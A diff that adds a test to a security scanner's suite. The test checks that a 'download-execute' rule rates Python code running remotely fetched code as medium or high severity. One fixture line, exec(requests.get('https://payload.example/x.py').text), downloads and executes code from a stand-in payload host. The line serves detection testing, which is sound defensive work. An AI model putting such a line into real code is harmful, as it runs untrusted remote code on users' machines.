@@ -185,3 +185,17 @@ test('setup.py appending to a shell start-up file is high: no package install ed
     'high',
   );
 });
+
+test('exec of code a service generates, at a URL the user configures, is medium when called; from a written host, high', () => {
+  const service = [
+    'import requests',
+    'class Backend:',
+    '    def fetch(self, url):',
+    '        return requests.post(url, json={}).json()["code"]',
+    '    def load(self):',
+    '        code = compile(self.fetch(self.api_url + "/graphql"), "<doc>", "exec")',
+  ].join('\n');
+  assert.equal(ruleOf(findings(service), 'download-execute')?.severity, 'medium');
+  const written = 'import requests\ndef update():\n    exec(requests.get("https://payload.example/x.py").text)\n';
+  assert.equal(ruleOf(findings(written), 'download-execute')?.severity, 'high');
+});
